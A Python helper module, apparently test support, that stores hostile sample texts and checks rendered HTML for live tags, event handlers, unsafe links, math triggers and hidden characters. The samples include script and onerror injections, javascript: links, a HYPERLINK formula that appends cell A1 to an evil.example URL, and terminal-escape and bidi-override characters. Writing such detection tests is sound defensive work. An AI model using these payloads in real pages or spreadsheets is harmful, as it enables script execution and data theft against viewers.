"""Texts of a record that act where they are shown, and a search for their remains."""

import re
from html.parser import HTMLParser

from markdown_it import MarkdownIt

EVIL = (
    'H100 <script src="//evil.example/x.js"></script><img src="//evil.example" onerror="run()">'
    "[x](javascript:run())![y](//evil.example/y.png)<b>`<i>` *z* $\\href{javascript:run()}{x}$\n"
    "\n# A heading\n\n[a]: //evil.example"
)
SCRIPT = "<script>window.ran = 1</script><img src=x onerror='window.ran = 1'>"
FORMULA = (
    '=HYPERLINK("http://evil.example/?"&A1, "click")\x1b[2J\x9b31m\u202egnp\u2066\u200b\u3164\x07'
)
TEXTS = {"script": SCRIPT, "markdown": EVIL, "formula": FORMULA}
RAN = "return window.ran"  # in a browser: what SCRIPT did
# What generated pages hold; the span shows a sign that would begin mathematics.
_TAGS = {
    *("h1", "h2", "p", "ul", "li", "em", "strong", "a", "img", "code", "blockquote", "span"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}


def rendered(page: str) -> str:
    """Return Markdown as HTML, as GitHub and JupyterLab read it."""
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(page)


class _Search(HTMLParser):
    def __init__(self, tags: set[str]) -> None:
        super().__init__()
        self.found: list[str] = []
        self.text: list[str] = []
        self.tags = tags

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        bad = [(name, value) for name, value in attrs if not _harmless(name, value or "")]
        if tag not in self.tags or bad:
            self.found.append(f"<{tag}> {bad}")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _harmless(name: str, value: str) -> bool:
    if name in ("src", "href"):  # a path, a page of the project, or a picture as text
        return not re.match(r"(?!https:|data:image/)\w+:|//", value)
    return not name.startswith("on")


def alive(html: str, *others: str) -> list[str]:
    """Return the tags in HTML that no page of ours holds, with `others` as known."""
    return _searched(html, *others).found


def shown(html: str) -> str:
    """Return the text of HTML."""
    return "".join(_searched(html).text)


def formulas(html: str) -> list[str]:
    """Return the texts that JupyterLab shows as mathematics: it reads each element by itself."""
    return [one for one in _searched(html).text if re.search(r"\$.*\$|\\[a-z(\[]", one)]


def unseen(text: str) -> list[str]:
    """Return the characters of a text that are not seen where it is shown."""
    seen = "\n\t\N{NO-BREAK SPACE}"
    return [one for one in text if one not in seen and (not one.isprintable() or one == "\u3164")]


def _searched(html: str, *others: str) -> _Search:
    search = _Search({*_TAGS, *others})
    search.feed(html)
    search.close()
    return search
